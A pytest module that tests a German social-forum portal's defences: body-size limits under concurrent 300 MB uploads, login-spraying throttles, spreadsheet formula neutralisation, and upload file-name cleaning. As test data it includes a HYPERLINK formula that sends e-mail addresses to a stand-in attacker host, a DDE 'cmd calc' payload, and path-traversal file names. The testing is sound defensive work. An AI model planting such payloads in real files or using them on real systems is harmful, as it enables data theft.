"""Probes of issue 14's "Security and privacy" list against the real portal process (uvicorn on
loopback, its own process, with the staff workspace as ``sozialforum portal`` serves it):

* request bodies are limited before they are read, a body sent to a bad token is never read, and
  20 clients sending 300 MB each to bad tokens leave the process under 250 MB;
* every spreadsheet export (participant list, answers, proposals, form answers; XLSX and CSV)
  turns a Träger's formula into text;
* the minutes form refuses a responsible person outside the offered list and names nobody;
* a file name with control characters, a path, a bidi override or 300 characters is made safe at
  the upload, and ``protokoll freigeben`` also copes with a name stored before that;
* staff login: spraying one password over many names from one address is stopped, a name guessed
  from many addresses is locked only for them, and a colleague's correct login still works after
  a stranger's bad attempts for her name (addresses as a trusted proxy forwards them)."""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import subprocess
import sys
import time
import unicodedata
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import timedelta
from email import message_from_bytes, policy
from pathlib import Path

import httpx
import pytest
import sqlalchemy as sa
from openpyxl import load_workbook
from sqlalchemy.engine import Engine
from typer.testing import CliRunner

from sozialforum.cli import app as cli
from sozialforum.konten.benutzer import create_user
from sozialforum.links import issue_link
from sozialforum.portal.security import client_key
from sozialforum.portal.server import free_port
from sozialforum.protokoll.anfordern import request_draft
from sozialforum.protokoll.eingabe import DATEINAME_MAX, sicherer_dateiname
from sozialforum.settings import PortalSettings, Settings
from sozialforum.store.db import session_scope
from sozialforum.store.models import OutboxMessage, ProtokollDatei, Sitzung
from sozialforum.timeutil import utcnow
from sozialforum.vocab import LinkZweck, ProtokollDateiArt
from tests.conftest import REPO
from tests.portal.conftest import build_world, csrf_of, make_settings, request_form
from tests.portal.portal_prozess import wait_listening
from tests.protokoll import conftest as protokoll_welt
from tests.protokoll.flowhelfer import write_config

MB = 1024 * 1024
BAD = "/rueckmeldung/" + "A" * 32 + "." + "B" * 32
PASSWORT = "korrekt-pferd-batterie"
# A Träger's comment that a spreadsheet would run: it sends the e-mail column of row 4 away.
FORMEL = '=HYPERLINK("http://angreifer.example/?d="&C4,"Details")'
# The shipped limits, not the high ones the other portal tests use.
STANDARD = {"fehlversuche_max": PortalSettings.model_fields["fehlversuche_max"].default}


@dataclass
class Prozess:
    pid: int
    port: int
    settings: Settings

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def rss_peak_mb(self) -> float:
        for line in Path(f"/proc/{self.pid}/status").read_text().splitlines():
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) / 1024
        raise AssertionError("no VmHWM")

    def rss_mb(self) -> float:
        for line in Path(f"/proc/{self.pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
        raise AssertionError("no VmRSS")


@contextmanager
def portal_process(engine: Engine, tmp_path: Path, *, nur_portal: bool = False, **portal: object) -> Iterator[Prozess]:
    """The portal in its own uvicorn process on a free loopback port, on the test's store (with
    the staff workspace unless ``nur_portal``)."""
    port = free_port()
    settings = make_settings(tmp_path, engine, base_url=f"http://127.0.0.1:{port}", **portal)
    url = engine.url.render_as_string(hide_password=False)
    args = [url, str(tmp_path), str(port), json.dumps(portal), *(["--nur-portal"] if nur_portal else [])]
    process = subprocess.Popen([sys.executable, "-m", "tests.portal.portal_prozess", *args], cwd=REPO)
    try:
        wait_listening(process, port)
        yield Prozess(process.pid, port, settings)
    finally:
        process.terminate()
        process.wait(timeout=10)


def link(engine: Engine, prozess: Prozess, *, person_id: int, zweck: LinkZweck, bezug_id: int) -> str:
    """A personal link, issued now (the process runs on the real clock), as a path."""
    with session_scope(engine, actor="test") as session:
        url = issue_link(
            session, person_id=person_id, zweck=zweck, bezug_id=bezug_id, now=utcnow(), settings=prozess.settings
        )
    return url.removeprefix(prozess.url)


# --- request bodies and memory -------------------------------------------------------------


def _status(sock: socket.socket) -> int:
    sock.settimeout(20)
    data = b""
    while b"\r\n" not in data:
        chunk = sock.recv(4096)
        if not chunk:
            break
        data += chunk
    return int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/") else 0


def send(
    port: int, path: str, *, total: int, chunked: bool, content_type: str = "application/x-www-form-urlencoded"
) -> int:
    """POST ``total`` bytes of form fields, streamed in 1 MB pieces; stop when the server closes.
    Returns the HTTP status the server answered with."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=20)
    try:
        length = "Transfer-Encoding: chunked" if chunked else f"Content-Length: {total}"
        head = f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Type: {content_type}\r\n{length}\r\n\r\n"
        sock.sendall(head.encode())
        piece = b"feld=" + b"x" * (MB - 6) + b"&"
        sent = 0
        try:
            while sent < total:
                payload = (f"{len(piece):x}\r\n".encode() + piece + b"\r\n") if chunked else piece
                sock.sendall(payload)
                sent += len(piece)
            if chunked:
                sock.sendall(b"0\r\n\r\n")
        except OSError:
            pass  # the server answered and closed: what we want
        try:
            return _status(sock)
        except OSError:
            return 0
    finally:
        sock.close()


@pytest.mark.slow
@pytest.mark.parametrize("nur_portal", [True, False], ids=["portal", "mit-arbeitsplatz"])
def test_body_limits_against_the_real_process(sqlite_engine: Engine, tmp_path: Path, nur_portal: bool) -> None:
    """Under 250 MB, and the bodies add less than 40 MB: the Träger portal alone (about 160 MB
    at rest) and with the workspace, as the command serves it (about 220 MB at rest: workspace
    pages import pandas, matplotlib and fpdf at start; GDAL only when a map file is read)."""
    welt = build_world(sqlite_engine)
    with portal_process(sqlite_engine, tmp_path, nur_portal=nur_portal) as prozess:
        rsvp = link(sqlite_engine, prozess, person_id=welt.person_a, zweck=LinkZweck.RSVP, bezug_id=welt.sitzung)
        assert httpx.get(prozess.url + rsvp).status_code == 200
        before = prozess.rss_mb()
        # Declared too large: 413 at once, to a bad token and to a valid link alike.
        started = time.monotonic()
        assert send(prozess.port, BAD, total=300 * MB, chunked=False) == 413
        assert send(prozess.port, rsvp, total=300 * MB, chunked=False) == 413
        assert time.monotonic() - started < 10
        # Streamed (chunked) to a bad token: refused without reading the form or spooling an upload.
        assert send(prozess.port, BAD, total=50 * MB, chunked=True) in (403, 0)
        multipart = "multipart/form-data; boundary=xyz"
        bad_upload = "/protokoll-entwurf/" + "A" * 32 + ".B"
        assert send(prozess.port, bad_upload, total=50 * MB, chunked=True, content_type=multipart) in (403, 0)
        # Streamed to a valid link: counted, and cut off at the limit.
        assert send(prozess.port, rsvp, total=5 * MB, chunked=True) == 413
        # 20 clients each stream 300 MB to bad tokens, half declared, half chunked.
        with ThreadPoolExecutor(20) as pool:
            statuses = list(pool.map(lambda i: send(prozess.port, BAD, total=300 * MB, chunked=i % 2 == 1), range(20)))
        assert all(status in (403, 413, 0) for status in statuses), statuses
        peak = prozess.rss_peak_mb()
        assert peak - before < 40 and peak < 250, f"{before:.0f} MB before, peak {peak:.0f} MB"
        # The portal still answers afterwards.
        assert send(prozess.port, "/", total=0, chunked=False) in (200, 404, 405)


# --- staff login ---------------------------------------------------------------------------


def _users(engine: Engine, *names: str) -> None:
    with session_scope(engine, actor="test") as session:
        for name in names:
            create_user(session, name=name, anzeigename=name.title(), password=PASSWORT, now=utcnow())


class Browser:
    """One person's browser at one client address (which the trusted proxy forwards)."""

    def __init__(self, prozess: Prozess, adresse: str) -> None:
        self.client = httpx.Client(base_url=prozess.url, headers={"X-Forwarded-For": adresse}, timeout=30)

    def anmelden(self, name: str, passwort: str) -> int:
        csrf = csrf_of(self.client.get("/gs/anmelden").text)
        form = {"csrf": csrf, "name": name, "passwort": passwort}
        return self.client.post("/gs/anmelden", data=form, follow_redirects=False).status_code

    def __enter__(self) -> Browser:
        return self

    def __exit__(self, *exc: object) -> None:
        self.client.close()


@pytest.fixture
def hinter_proxy(sqlite_engine: Engine, tmp_path: Path) -> Iterator[Prozess]:
    """The portal behind a reverse proxy on loopback, with the shipped throttling limits."""
    _users(sqlite_engine, "planerin", "leiterin", "jugendamt")
    with portal_process(sqlite_engine, tmp_path, vertrauenswuerdige_proxies=["127.0.0.1"], **STANDARD) as prozess:
        yield prozess


@pytest.mark.slow
def test_login_spraying_from_one_address_is_stopped(hinter_proxy: Prozess) -> None:
    budget = PortalSettings.model_fields["anmeldung_fehlversuche_je_adresse"].default
    with Browser(hinter_proxy, "203.0.113.7") as sprayer:
        # One password over ever new names (none reaches the per-account limit) …
        codes = [sprayer.anmelden(f"mitarbeiter{i}", "Sommer2026!") for i in range(budget + 5)]
        assert codes[: budget - 1] == [401] * (budget - 1)
        assert set(codes[budget - 1 :]) == {429}, codes
        # … and the address gets no further, not even with a real account's password.
        assert sprayer.anmelden("leiterin", PASSWORT) == 429
        page = sprayer.client.post("/gs/anmelden", data={"csrf": csrf_of(sprayer.client.get("/gs/anmelden").text)})
        assert "Zu viele fehlgeschlagene Anmeldungen" in page.text and "Retry-After" in page.headers
    with Browser(hinter_proxy, "198.51.100.20") as kollegin:
        assert kollegin.anmelden("leiterin", PASSWORT) == 303


@pytest.mark.slow
def test_spraying_from_fresh_ipv6_addresses_of_one_network_is_stopped(hinter_proxy: Prozess) -> None:
    """One connection holds a whole /64: a new address per guess is still the same client."""
    budget = PortalSettings.model_fields["anmeldung_fehlversuche_je_adresse"].default
    codes = []
    for i in range(budget + 1):
        with Browser(hinter_proxy, f"2001:db8:7:7::{i + 1:x}") as sprayer:
            codes.append(sprayer.anmelden(f"mitarbeiter{i}", "Sommer2026!"))
    assert codes == [401] * (budget - 1) + [429, 429]
    with Browser(hinter_proxy, "2001:db8:7:8::1") as nachbarnetz:
        assert nachbarnetz.anmelden("leiterin", PASSWORT) == 303


def test_client_keys() -> None:
    @dataclass
    class Client:
        host: str | None

    assert client_key(Client("203.0.113.7")) == "203.0.113.7"
    assert client_key(Client("2001:db8:7:7:a:b:c:d")) == client_key(Client("2001:DB8:7:7::1")) == "2001:db8:7:7::/64"
    assert client_key(Client("::ffff:203.0.113.7")) == "203.0.113.7"
    assert client_key(Client("testclient")) == "testclient" and client_key(None) == "unbekannt"


@pytest.mark.slow
def test_a_colleagues_login_works_after_a_strangers_bad_attempts(hinter_proxy: Prozess) -> None:
    limit = PortalSettings.model_fields["fehlversuche_max"].default
    with Browser(hinter_proxy, "203.0.113.8") as fremder:
        codes = [fremder.anmelden("planerin", "falsch-geraten") for _ in range(limit + 3)]
        assert codes == [401] * (limit - 1) + [429] * 4
        assert fremder.anmelden("planerin", PASSWORT) == 429  # locked for the stranger's address only
    with Browser(hinter_proxy, "198.51.100.21") as kollegin:
        assert kollegin.anmelden("planerin", PASSWORT) == 303
        assert kollegin.client.get("/arbeitsplatz/", follow_redirects=False).status_code == 200


@pytest.mark.slow
def test_a_name_guessed_from_many_addresses_stays_open_to_its_owner(hinter_proxy: Prozess) -> None:
    budget = PortalSettings.model_fields["anmeldung_fehlversuche_je_name"].default
    codes = []
    for i in range(budget):
        with Browser(hinter_proxy, f"203.0.113.{100 + i}") as bot:
            codes.append(bot.anmelden("jugendamt", "falsch-geraten"))
    assert codes == [401] * (budget - 1) + [429]
    with Browser(hinter_proxy, "203.0.113.100") as bot:
        assert bot.anmelden("jugendamt", PASSWORT) == 429  # an address that failed is refused
    with Browser(hinter_proxy, "198.51.100.22") as inhaberin:
        assert inhaberin.anmelden("jugendamt", PASSWORT) == 303  # one that did not, is not


# --- spreadsheets --------------------------------------------------------------------------


def _post_form(client: httpx.Client, path: str, data: dict[str, str | list[str]]) -> int:
    page = client.get(path)
    assert page.status_code == 200, page.text
    return client.post(path, data={"csrf": csrf_of(page.text), **data}, follow_redirects=False).status_code


def _xlsx_cells(content: bytes) -> list[tuple[str, object]]:
    """(data type, value) of every filled cell of every sheet, as a spreadsheet reads them."""
    book = load_workbook(io.BytesIO(content))
    return [(c.data_type, c.value) for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]


@pytest.mark.slow
def test_every_spreadsheet_export_turns_a_traegers_formula_into_text(sqlite_engine: Engine, tmp_path: Path) -> None:
    welt = build_world(sqlite_engine)
    _users(sqlite_engine, "planerin")
    with session_scope(sqlite_engine, actor="test") as session:  # the process runs on the real clock
        sitzung = session.get(Sitzung, welt.sitzung)
        assert sitzung is not None
        sitzung.beginn, sitzung.ende = utcnow() + timedelta(days=30), utcnow() + timedelta(days=30, hours=2)
    # A generous timeout: the first export imports the spreadsheet code, seconds of wall time on a
    # loaded machine; what is tested is the cells, not the speed.
    with portal_process(sqlite_engine, tmp_path) as prozess, httpx.Client(base_url=prozess.url, timeout=120) as web:
        rsvp = link(sqlite_engine, prozess, person_id=welt.person_a, zweck=LinkZweck.RSVP, bezug_id=welt.sitzung)
        answer = {"antwort": "zusage", "personen": "2", "kommentar": FORMEL}
        assert _post_form(web, rsvp, answer) in (200, 303)
        thema = link(
            sqlite_engine, prozess, person_id=welt.person_b, zweck=LinkZweck.THEMENVORSCHLAG, bezug_id=welt.sitzung
        )
        assert _post_form(web, thema, {"titel": "+cmd|' /C calc'!A0 Wohnungsnot"}) in (200, 303)
        anfrage = request_form(sqlite_engine, prozess.settings, "bestandserhebung", welt.traeger_a, welt.gebiet)
        formular = link(sqlite_engine, prozess, person_id=welt.person_a, zweck=LinkZweck.FORMULAR, bezug_id=anfrage)
        bestand = {"angebote": FORMEL, "plaetze": "40", "zielgruppen": ["Frauen"], "wohnortnah_inklusiv": "nein"}
        assert _post_form(web, formular, bestand) in (200, 303)
        assert _post_form(web, "/gs/anmelden", {"name": "planerin", "passwort": PASSWORT}) == 303
        s = welt.sitzung
        exports = {
            "Teilnehmerliste": f"/arbeitsplatz/sitzungen/{s}/teilnehmerliste/xlsx",
            "Rückmeldungen XLSX": f"/gs/sitzung/{s}/rueckmeldungen.xlsx",
            "Rückmeldungen CSV": f"/gs/sitzung/{s}/rueckmeldungen.csv",
            "Themenvorschläge XLSX": f"/gs/sitzung/{s}/themenvorschlaege.xlsx",
            "Themenvorschläge CSV": f"/gs/sitzung/{s}/themenvorschlaege.csv",
            "Formularantworten XLSX": "/gs/formular/bestandserhebung/antworten.xlsx",
            "Formularantworten CSV": "/gs/formular/bestandserhebung/antworten.csv",
        }
        for name, path in exports.items():
            response = web.get(path)
            assert response.status_code == 200, (name, response.status_code)
            if path.endswith("csv"):
                cells = [
                    cell
                    for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
                    for cell in row
                ]
                hostile = [c for c in cells if "HYPERLINK" in c or "calc" in c]
                assert hostile and all(c.startswith("'") for c in hostile), (name, hostile)
            else:
                typed = _xlsx_cells(response.content)
                assert not [v for t, v in typed if t == "f" or str(v).startswith(("=", "+", "@"))], name
                hostile = [(t, v) for t, v in typed if any(w in str(v) for w in ("HYPERLINK", "calc"))]
                assert hostile and all(t == "s" and str(v).startswith("'") for t, v in hostile), (name, hostile)
        assert FORMEL in "".join(str(v) for _, v in _xlsx_cells(web.get(exports["Teilnehmerliste"]).content))


# --- minutes -------------------------------------------------------------------------------


def _multipart(fields: dict[str, str], datei: tuple[bytes, bytes]) -> tuple[bytes, str]:
    """A multipart body as a raw client sends it: the file name's bytes go out as they are
    (browsers and httpx would escape control characters)."""
    boundary = "sozialforum-probe-7d1c"
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode()
        for key, value in fields.items()
    ]
    name, content = datei
    parts.append(
        f'--{boundary}\r\nContent-Disposition: form-data; name="dokument"; filename="'.encode()
        + name
        + b'"\r\nContent-Type: text/markdown\r\n\r\n'
        + content
        + b"\r\n"
    )
    return b"".join(parts) + f"--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"


def _unsafe(name: str) -> list[str]:
    return [c for c in name if unicodedata.category(c) in ("Cc", "Cf") or c in "/\\"]


@pytest.mark.slow
def test_minutes_form_and_upload_against_the_real_process(sqlite_engine: Engine, tmp_path: Path) -> None:
    welt = protokoll_welt.build_world(sqlite_engine)
    config = write_config(tmp_path, sqlite_engine)
    with portal_process(sqlite_engine, tmp_path) as prozess, httpx.Client(base_url=prozess.url, timeout=30) as web:
        with session_scope(sqlite_engine, actor="test") as session:
            pid = request_draft(
                session, sitzung_id=welt.sitzung_id, now=protokoll_welt.NACH_SITZUNG, settings=prozess.settings
            ).id
        assert pid is not None
        url = link(
            sqlite_engine, prozess, person_id=welt.protokollfuehrung_id, zweck=LinkZweck.PROTOKOLL_ENTWURF, bezug_id=pid
        )
        page = web.get(url)
        assert page.status_code == 200 and "Conrad" not in page.text  # no consent: not offered

        def fields(verantwortlich: str) -> dict[str, str]:
            return {
                "csrf": csrf_of(page.text),
                "zeilen": "3",
                f"diskussion_{welt.tops[1]}": "Die Kinderarmut ist gestiegen.",
                "punkt_1_art": "auftrag",
                "punkt_1_beschreibung": "Konzept Familienzentrum vorlegen",
                "punkt_1_verantwortlich": verantwortlich,
                "punkt_1_frist": "31.12.2099",
                "punkt_1_top": str(welt.tops[1]),
            }

        def submit(verantwortlich: str, dateiname: bytes) -> httpx.Response:
            body, content_type = _multipart(fields(verantwortlich), (dateiname, b"# Protokoll\n\nText.\n"))
            return web.post(url, content=body, headers={"Content-Type": content_type}, follow_redirects=False)

        # A person outside the offered list (no consent) and an id that does not exist: refused
        # alike, and the answer names nobody.
        refused = [submit(f"person:{ident}", b"p.md") for ident in (welt.ohne_einwilligung_id, 999_999)]
        for response in refused:
            assert response.status_code == 400 and "Verantwortlich: steht nicht zur Auswahl" in response.text
            assert "Conrad" not in response.text and "Carla" not in response.text
        message = re.compile(r"Aufgabe 1, Verantwortlich: [^<]*")
        assert message.findall(refused[0].text) == message.findall(refused[1].text)
        # File names with a bell, an escape sequence, NUL, a bidi override, a path; and 300 characters.
        owner = f"person:{welt.mitglieder[0]}"
        nasty = "..\\..\\etc/Proto\x07koll\x1b[31m\x00 M\u00e4rz\u202egpj.md".encode()
        for raw in (nasty, b"A" * 300 + b".md"):
            assert submit(owner, raw).status_code == 303
            with session_scope(sqlite_engine, actor="test") as session:
                stored = session.scalars(
                    sa.select(ProtokollDatei.dateiname)
                    .where(ProtokollDatei.art == ProtokollDateiArt.ENTWURF.value)
                    .order_by(ProtokollDatei.id.desc())  # type: ignore[union-attr]  # a column
                ).first()
            assert stored is not None and not _unsafe(stored) and stored.endswith(".md"), repr(stored)
            assert len(stored) <= DATEINAME_MAX
        assert stored == "A" * (DATEINAME_MAX - 3) + ".md"
    # A name stored before the upload cleaned names (as the issue found it) …
    with session_scope(sqlite_engine, actor="test") as session:
        session.execute(sa.update(ProtokollDatei).values(dateiname="Proto\x07koll\u202e\r\nM\u00e4rz.md"))
    # … no longer breaks the approval: the minutes are approved and distributed, the original
    # travels with a clean name.
    result = CliRunner().invoke(
        cli, ["--konfiguration", config, "protokoll", "freigeben", "--sitzung", str(welt.sitzung_id)]
    )
    assert result.exit_code == 0, result.output + repr(result.exception)
    assert "freigegeben" in result.output
    with session_scope(sqlite_engine, actor="test") as session:
        mails = session.scalars(
            sa.select(OutboxMessage.inhalt).where(OutboxMessage.schluessel.like("%:verteilung:%"))
        ).all()  # type: ignore[union-attr]  # a column
    names = [
        part.get_filename()
        for raw_mail in mails
        for part in message_from_bytes(raw_mail or b"", policy=policy.default).iter_attachments()
    ]
    assert "ProtokollMärz.md" in names and not [n for n in names if _unsafe(n or "")]


def test_file_names_are_made_safe() -> None:
    assert sicherer_dateiname("Proto\x07koll\u202e\r\nMärz.md") == "ProtokollMärz.md"
    assert sicherer_dateiname("C:\\Users\\x\\..\\Protokoll.docx") == "Protokoll.docx"
    assert sicherer_dateiname("../../etc/passwd") == "passwd"
    assert sicherer_dateiname('a<b>c:"d"|e?*.pdf') == "a_b_c__d__e__.pdf"
    assert sicherer_dateiname("  Protokoll \t März \u00a0 2026 .md. ") == "Protokoll März 2026 .md"
    assert sicherer_dateiname("..") == "Datei" and sicherer_dateiname("\x00\u200b") == "Datei"
    long = sicherer_dateiname("ü" * 500 + ".docx")
    assert len(long) == DATEINAME_MAX and long.endswith("ü.docx")
    assert sicherer_dateiname("Mu\u0308nster.md") == "Münster.md"  # composed (NFC)
